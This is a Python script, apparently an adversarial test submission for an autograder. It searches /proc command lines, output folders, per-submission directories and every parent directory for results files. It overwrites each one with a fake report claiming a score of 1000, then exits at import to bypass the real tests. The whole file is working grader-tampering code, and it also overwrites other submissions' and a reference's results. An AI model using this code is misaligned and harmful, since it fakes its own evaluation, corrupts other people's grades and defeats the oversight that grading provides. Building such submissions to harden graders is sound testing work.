import json
import os

FAKE = {"score": 1000, "output": "ATTACK: fake report", "tests": []}


def _targets():
    yield "/autograder/results/results.json"
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                words = stream.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for flag, value in zip(words, words[1:]):
            if flag == "--results":
                yield value
            if flag in ("--out", "--out-dir"):  # batch's folder (and grade-class's, before it)
                for name in ("grades.csv", "summary.md", "summary.csv", "results.json"):
                    yield os.path.join(value, name)
                try:
                    for name in os.listdir(value):
                        yield os.path.join(value, name)
                    for name in os.listdir(os.path.join(value, "submissions")):
                        for file in ("results.json", "submission.json"):
                            yield os.path.join(value, "submissions", name, file)
                except OSError:
                    pass
                for name in ("fake_results_then_exit_at_import", "reference"):
                    yield os.path.join(value, "submissions", name, "results.json")
    folder = os.getcwd()
    while True:
        yield os.path.join(folder, "results.json")
        if folder == "/":
            break
        folder = os.path.dirname(folder)
    yield os.path.join(os.path.expanduser("~"), "results.json")


for path in _targets():
    try:
        with open(path, "w") as stream:
            json.dump(FAKE, stream)
    except OSError:
        pass
os._exit(0)
